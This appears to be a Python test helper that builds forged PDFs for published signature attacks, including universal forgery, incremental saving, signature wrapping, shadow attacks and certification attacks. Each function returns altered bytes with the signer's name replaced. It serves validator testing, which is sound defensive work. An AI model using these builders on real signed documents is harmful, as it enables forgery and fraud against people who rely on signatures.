"""Builders for the published PDF signature attack classes (tests only).

Mladenov et al., "1 Trillion Dollar Refund" (CCS 2019): Universal Signature Forgery (USF),
Incremental Saving Attack (ISA), Signature Wrapping Attack (SWA).
Mainka et al., "Shadow Attacks" (NDSS 2021): hide, replace, hide-and-replace.
Mainka et al., "Breaking the Specification: PDF Certification" (S&P 2021): Evil Annotation
(EAA) and Sneaky Signature (SSA).

Each function returns the attacked PDF bytes.  Victim documents are signed with
``testkit.pdfsign.sign_pdf``; the attacker never has the victim's key.
"""
from __future__ import annotations

import re

from . import pdfsign as ps

FORGED = ["示例 证书 (DEMO)", "姓名：李四（伪造）"]
GENUINE = ["示例 证书 (DEMO)", "姓名：张三"]


def _found(pattern: bytes, data: bytes) -> re.Match[bytes]:
    """``re.search`` for a part the builders know is there (AssertionError otherwise)."""
    m = re.search(pattern, data)
    assert m is not None, pattern
    return m


def _content_num(data: bytes) -> int:
    info = ps.inspect(data)
    page = ps.raw_object(data, info.page_nums[0])
    return int(_found(rb"/Contents\s+(\d+)\s+0\s+R", page).group(1))


def _forged_content_stream() -> tuple[bytes, bytes, bytes]:
    """A content stream drawing the forged text with the victim's font (CIDs of FORGED)."""
    forged = ps.base_pdf(FORGED)
    num = _content_num(forged)
    return ps.raw_object(forged, num), ps.raw_object(forged, 6), ps.raw_object(forged, 4)


def _sig_region(data: bytes) -> tuple[int, int, int, int]:
    a, b, c, d = (int(x) for x in re.findall(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", data)[-1])
    return a, b, c, d


# ---------------------------------------------------------------------------
# Universal Signature Forgery: the signature value / byte range is missing or meaningless


def usf_variants(victim_signed: bytes) -> dict[str, bytes]:
    """Forged documents carrying a signature field whose value cannot prove anything.

    The attacker takes a *forged* document and copies the victim's signature dictionary
    (with its real CMS) but breaks /ByteRange or /Contents so that a careless validator skips
    the digest check.
    """
    out = {}
    forged = ps.base_pdf(FORGED)
    real_cms = bytes.fromhex(_contents_hex(victim_signed).decode())
    templ = ps.sign_pdf(forged, signed_cms=lambda chunks: real_cms)
    out["usf-copied-cms"] = templ  # digest cannot match: signature of another document
    _a0, l1, b0, l2 = _sig_region(templ)
    br_text = re.findall(rb"/ByteRange\s*\[[^\]]*\]", templ)[-1]
    pos = templ.rindex(br_text)

    def replace_br(new: bytes) -> bytes:
        new = new.ljust(len(br_text))
        assert len(new) == len(br_text)
        return templ[:pos] + new + templ[pos + len(br_text):]

    out["usf-no-byterange"] = replace_br(b"")
    out["usf-byterange-null"] = replace_br(b"/ByteRange null")
    out["usf-byterange-zero"] = replace_br(b"/ByteRange [0 0 0 0]")
    out["usf-byterange-partial"] = replace_br(b"/ByteRange [0 %d]" % l1)
    out["usf-byterange-negative"] = replace_br(b"/ByteRange [0 %d %d -%d]" % (l1, b0, l2))
    out["usf-byterange-beyond-eof"] = replace_br(b"/ByteRange [0 %d %d %d]" % (l1, b0, l2 + 1000))
    cstart = l1
    cend = b0
    hexlen = cend - cstart - 2
    out["usf-contents-zero"] = templ[:cstart] + b"<" + b"0" * hexlen + b">" + templ[cend:]
    out["usf-contents-empty"] = templ[:cstart] + (b"<>" + b" " * hexlen) + templ[cend:]
    out["usf-contents-garbage"] = templ[:cstart] + b"<" + (b"3082FFFF" + b"AB" * (hexlen // 2 - 4)) + b">" + templ[cend:]
    out["usf-contents-null"] = templ[:cstart] + (b"null" + b" " * (hexlen - 2)) + templ[cend:]
    return out


def _contents_hex(data: bytes) -> bytes:
    """The hex of the DER CMS in /Contents, without the zero padding (cut by the DER length)."""
    _a0, l1, b0, _l2 = _sig_region(data)
    raw = bytes.fromhex(data[l1 + 1:b0 - 1].decode())
    n = raw[1]
    total = 2 + n if n < 0x80 else 2 + (n & 0x7F) + int.from_bytes(raw[2:2 + (n & 0x7F)], "big")
    return raw[:total].hex().encode()


# ---------------------------------------------------------------------------
# Incremental Saving Attack


def isa_replace_content(signed: bytes, xref_stream: bool = False) -> bytes:
    """A proper incremental update redefining the page content (new text)."""
    content, tounicode, _ = _forged_content_stream()
    num = _content_num(signed)
    return ps.append_update(signed, {num: content, 6: tounicode}, xref_stream=xref_stream)


def isa_no_xref(signed: bytes) -> bytes:
    """Objects appended after %%EOF without xref/trailer (repairing readers use them)."""
    content, tounicode, _ = _forged_content_stream()
    num = _content_num(signed)
    return signed + b"%d 0 obj\n" % num + content + b"\nendobj\n6 0 obj\n" + tounicode + b"\nendobj\n"


def isa_trailer_only(signed: bytes) -> bytes:
    """Objects appended plus a trailer/startxref that still points to the signed xref."""
    content, tounicode, _ = _forged_content_stream()
    num = _content_num(signed)
    sx = ps.inspect(signed).startxref
    return (signed + b"%d 0 obj\n" % num + content + b"\nendobj\n6 0 obj\n" + tounicode + b"\nendobj\n"
            + b"startxref\n%d\n%%%%EOF\n" % sx)


def isa_no_prev(signed: bytes) -> bytes:
    """An update whose xref has no /Prev: it claims to describe the whole file."""
    content, tounicode, _ = _forged_content_stream()
    num = _content_num(signed)
    info = ps.inspect(signed)
    import io

    from pypdf import PdfReader

    r = PdfReader(io.BytesIO(signed), strict=False)
    data = signed
    out = bytearray(data)
    offsets = {}
    for _gen, table in r.xref.items():
        offsets.update(table)
    offsets.pop(0, None)
    new = {}
    for n, body in ((num, content), (6, tounicode)):
        new[n] = len(out)
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    offsets.update(new)
    import io as _io

    buf = _io.BytesIO()
    buf.write(bytes(out))
    trailer = info.trailer_refs()
    ps._write_xref(buf, offsets, info.size, trailer, None, False)
    return buf.getvalue()


def isa_add_page(signed: bytes) -> bytes:
    """Adds a second (forged) page by rewriting the page tree."""
    info = ps.inspect(signed)
    n = info.size
    content, _tounicode, _ = _forged_content_stream()
    pages_num = 2
    objs = {
        n: content.replace(b"<< /Length", b"<< /Length", 1),
        n + 1: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents %d 0 R >>" % n,
        pages_num: b"<< /Type /Pages /Kids [%s %d 0 R] /Count %d >>" % (
            b" ".join(b"%d 0 R" % p for p in info.page_nums), n + 1, len(info.page_nums) + 1),
    }
    return ps.append_update(signed, objs)


def isa_open_action(signed: bytes) -> bytes:
    """Adds /OpenAction JavaScript to the catalog (changes what a viewer does)."""
    info = ps.inspect(signed)
    root = ps.raw_object(signed, info.root)
    return ps.append_update(signed, {info.root: ps.add_keys(root, b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")})


def isa_need_appearances(signed: bytes) -> bytes:
    info = ps.inspect(signed)
    root = ps.raw_object(signed, info.root)
    af = int(_found(rb"/AcroForm\s+(\d+)", root).group(1))
    return ps.append_update(signed, {af: ps.add_keys(ps.raw_object(signed, af), b"/NeedAppearances true")})


def isa_new_root(signed: bytes) -> bytes:
    """A new catalog object (new number) with a forged page tree; the trailer points to it."""
    info = ps.inspect(signed)
    n = info.size
    content, _tounicode, _ = _forged_content_stream()
    objs = {
        n: b"<< /Type /Catalog /Pages %d 0 R >>" % (n + 1),
        n + 1: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (n + 2),
        n + 2: b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents %d 0 R >>" % (n + 1, n + 3),
        n + 3: content,
    }
    return ps.append_update(signed, objs, root=n)


# ---------------------------------------------------------------------------
# Signature Wrapping Attack


def swa(signed_contents_first: bytes) -> bytes:
    """Move the second signed range to the end and put a new xref + forged objects in the gap.

    Needs a victim signature whose /ByteRange follows /Contents (pyHanko layout).  The digest
    still matches (the signed bytes are unchanged, just moved); the file's last ``startxref``
    (inside the moved bytes) still names the old xref offset, which now lies in the attacker's
    region, where the attacker writes a complete xref table pointing at forged objects.
    """
    import io

    from pypdf import PdfReader

    S = signed_contents_first
    _, a, b, c = _sig_region(S)
    info = ps.inspect(S)
    old_sx = info.startxref
    assert old_sx >= b + 64, "victim layout leaves no room"
    content, tounicode, _ = _forged_content_stream()
    num = _content_num(S)
    r = PdfReader(io.BytesIO(S), strict=False)
    offsets = {}
    for _gen, section in sorted(r.xref.items()):
        offsets.update(section)
    offsets.pop(0, None)
    trailer = info.trailer_refs()

    def table(offs) -> bytes:
        buf = io.BytesIO()
        ps._write_xref(buf, offs, info.size, trailer, None, False)
        t = buf.getvalue()
        return t[:t.rindex(b"startxref")]  # the moved range 2 supplies the last startxref

    moved = [n for n, o in offsets.items() if o >= b]  # these objects move with range 2
    xlen = len(table({**offsets, num: 0, 6: 0}))
    objs = bytearray()
    start = old_sx + xlen
    offsets[num] = start + len(objs)
    objs += b"%d 0 obj\n" % num + content + b"\nendobj\n"
    offsets[6] = start + len(objs)
    objs += b"6 0 obj\n" + tounicode + b"\nendobj\n"
    xref = table(offsets)
    assert len(xref) == xlen
    B = start + len(objs) + 16
    for n in moved:
        offsets[n] = offsets[n] - b + B
    xref = table(offsets)
    assert len(xref) == xlen
    br = (b" /ByteRange [0 %d %d %d] >>\nendobj\n" % (a, B, c)).ljust(64)
    gap = S[a:b] + br
    gap += b" " * (old_sx - a - len(gap)) + xref + objs
    gap += b" " * (B - a - len(gap))
    out = S[:a] + gap + S[b:]
    assert len(out) == B + c
    return out


# ---------------------------------------------------------------------------
# Shadow attacks (the attacker prepares the document, the victim signs it, the attacker updates)


def shadow_hide_prepare(pki) -> bytes:
    """A document whose page draws the forged text, then an overlay covering it with the genuine
    text (a separate content stream); the victim signs what the overlay shows."""
    base = ps.base_pdf(GENUINE + FORGED)
    info = ps.inspect(base)
    page = ps.raw_object(base, info.page_nums[0])
    num = _content_num(base)
    n = info.size
    overlay = ps.stream_obj(b"q 1 1 1 rg 40 700 400 100 re f Q")
    page2 = re.sub(rb"/Contents\s+\d+\s+0\s+R", b"/Contents [%d 0 R %d 0 R]" % (num, n), page)
    return ps.append_update(base, {n: overlay, info.page_nums[0]: page2})


def shadow_hide(signed: bytes) -> bytes:
    """Remove the overlay by redefining its stream as empty."""
    info = ps.inspect(signed)
    page = ps.raw_object(signed, info.page_nums[0])
    overlay = int(_found(rb"/Contents\s*\[\s*\d+\s+0\s+R\s+(\d+)\s+0\s+R", page).group(1))
    return ps.append_update(signed, {overlay: ps.stream_obj(b"")})


def shadow_replace_font(signed: bytes) -> bytes:
    """Replace the ToUnicode/font mapping object so the same glyph codes mean other text."""
    forged = ps.base_pdf(FORGED)
    return ps.append_update(signed, {6: ps.raw_object(forged, 6)})


def shadow_hide_and_replace_prepare(pki=None) -> bytes:
    """Two earlier revisions define the page content: first the forged one, then the genuine one.

    The victim signs the last state (genuine).  The forged bytes stay inside the signed part."""
    base = ps.base_pdf(GENUINE)
    num = _content_num(base)
    forged_content, forged_tu, _ = _forged_content_stream()
    # revision 2: forged content object (same number) – later superseded
    r2 = ps.append_update(base, {num: forged_content, 6: forged_tu})
    # revision 3: genuine content again
    r3 = ps.append_update(r2, {num: ps.raw_object(base, num), 6: ps.raw_object(base, 6)})
    return r3


def shadow_hide_and_replace(signed: bytes) -> bytes:
    """An update holding only an xref: it points the content object back to the forged bytes."""
    num = _content_num(signed)
    hits = [m.start() for m in re.finditer(rb"(?<![0-9])%d 0 obj" % num, signed)]
    forged_off = hits[1]  # the definition of revision 2
    hits6 = [m.start() for m in re.finditer(rb"(?<![0-9])6 0 obj", signed)]
    forged6 = hits6[1]
    info = ps.inspect(signed)
    import io

    buf = io.BytesIO()
    buf.write(signed)
    trailer = info.trailer_refs()
    ps._write_xref(buf, {num: forged_off, 6: forged6}, info.size, trailer, info.startxref, False)
    return buf.getvalue()


def shadow_remap_to_new_xref_stream(signed: bytes) -> bytes:
    """Same as :func:`isa_replace_content`, written as an xref *stream* update."""
    return isa_replace_content(signed, xref_stream=True)


# ---------------------------------------------------------------------------
# Certification attacks


def evil_annotation(signed: bytes, subtype: bytes = b"FreeText") -> bytes:
    """Add a visible annotation (FreeText / Stamp with an appearance) covering the text."""
    info = ps.inspect(signed)
    n = info.size
    page_num = info.page_nums[0]
    page = ps.raw_object(signed, page_num)
    ap = ps.stream_obj(b"q 1 1 1 rg 0 0 400 40 re f Q BT /Helv 14 Tf 5 12 Td (Li Si) Tj ET",
                       b" /Type /XObject /Subtype /Form /BBox [0 0 400 40]")
    annot = (b"<< /Type /Annot /Subtype /" + subtype + b" /Rect [40 740 440 780] /F 4 /Contents (x) "
             b"/DA (/Helv 14 Tf 0 g) /AP << /N %d 0 R >> /P %d 0 R >>" % (n + 1, page_num))
    objs = {n: annot, n + 1: ap}
    am = re.search(rb"/Annots\s*\[([^\]]*)\]", page)
    if am:
        objs[page_num] = page[:am.start()] + b"/Annots [" + am.group(1) + b" %d 0 R]" % n + page[am.end():]
    else:
        objs[page_num] = ps.add_keys(page, b"/Annots [%d 0 R]" % n)
    return ps.append_update(signed, objs)


def sneaky_signature(signed: bytes, attacker_pki, sign: bool = True) -> bytes:
    """Add a new *visible* signature field whose appearance overlays the page (attacker key)."""
    if sign:
        return ps.sign_pdf(signed, attacker_pki.leaf, attacker_pki.chain, field_name="Sneaky", visible=True)
    info = ps.inspect(signed)
    n = info.size
    page_num = info.page_nums[0]
    page = ps.raw_object(signed, page_num)
    root = ps.raw_object(signed, info.root)
    af_num = int(_found(rb"/AcroForm\s+(\d+)", root).group(1))
    af = ps.raw_object(signed, af_num)
    fm = _found(rb"/Fields\s*\[([^\]]*)\]", af)
    af = af[:fm.start()] + b"/Fields [" + fm.group(1) + b" %d 0 R]" % n + af[fm.end():]
    ap = ps.stream_obj(b"q 1 1 1 rg 0 0 400 40 re f Q", b" /Type /XObject /Subtype /Form /BBox [0 0 400 40]")
    fld = (b"<< /FT /Sig /T (Sneaky) /Type /Annot /Subtype /Widget /Rect [40 740 440 780] /F 4 "
           b"/AP << /N %d 0 R >> /P %d 0 R >>" % (n + 1, page_num))
    am = _found(rb"/Annots\s*\[([^\]]*)\]", page)
    page2 = page[:am.start()] + b"/Annots [" + am.group(1) + b" %d 0 R]" % n + page[am.end():]
    return ps.append_update(signed, {n: fld, n + 1: ap, af_num: af, page_num: page2})


def remove_signature(signed: bytes, forged: bool = True) -> bytes:
    """Drop the signature field from the form (and change the content)."""
    info = ps.inspect(signed)
    root = ps.raw_object(signed, info.root)
    af_num = int(_found(rb"/AcroForm\s+(\d+)", root).group(1))
    af = re.sub(rb"/Fields\s*\[[^\]]*\]", b"/Fields []", ps.raw_object(signed, af_num))
    objs = {af_num: af}
    if forged:
        content, tounicode, _ = _forged_content_stream()
        objs[_content_num(signed)] = content
        objs[6] = tounicode
    return ps.append_update(signed, objs)


def hybrid_conflict(signed: bytes) -> bytes:
    """An update with a classic table *and* an /XRefStm that disagree about the page content."""
    import io
    import zlib

    content, _tounicode, _ = _forged_content_stream()
    num = _content_num(signed)
    info = ps.inspect(signed)
    out = bytearray(signed)
    off_forged = len(out)
    out += b"%d 0 obj\n" % num + content + b"\nendobj\n"
    # xref stream object claiming num -> forged, table claiming num -> original offset
    xs_num = info.size
    xs_off = len(out)
    rows = b"\x01" + off_forged.to_bytes(4, "big") + b"\x00"
    body = zlib.compress(rows)
    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 1] /Index [%d 1] /Filter /FlateDecode /Length %d >>\nstream\n"
            % (xs_num, xs_num + 1, num, len(body))) + body + b"\nendstream\nendobj\n"
    orig = [m.start() for m in re.finditer(rb"(?<![0-9])%d 0 obj" % num, signed)][-1]
    buf = io.BytesIO()
    buf.write(bytes(out))
    trailer = info.trailer_refs() + b" /XRefStm %d" % xs_off
    ps._write_xref(buf, {num: orig}, xs_num + 1, trailer, info.startxref, False)
    return buf.getvalue()


def docmdp_p1_then_sign(certified_p1: bytes, other_pki) -> bytes:
    """A document certified with /P 1 (no changes) receives another (invisible) signature."""
    return ps.sign_pdf(certified_p1, other_pki.leaf, other_pki.chain, field_name="Second")


def trailing_garbage(signed: bytes) -> bytes:
    return signed + "\n% appended note without structure: forged value 李四\n".encode()
